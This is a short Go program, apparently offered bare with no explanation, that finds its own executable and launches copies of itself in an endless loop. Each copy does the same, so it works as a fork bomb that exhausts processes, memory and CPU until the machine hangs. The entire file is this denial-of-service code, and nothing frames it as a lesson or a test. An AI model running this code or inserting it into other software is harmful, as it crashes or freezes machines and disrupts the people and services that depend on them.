package main

import (
	"os"
	"time"
)

func main() {
	self, err := os.Executable()
	if err != nil {
		panic(err)
	}
	for {
		if _, err := os.StartProcess(self, os.Args, &os.ProcAttr{Files: []*os.File{os.Stdin, os.Stdout, os.Stderr}}); err != nil {
			time.Sleep(10 * time.Millisecond)
		}
	}
}
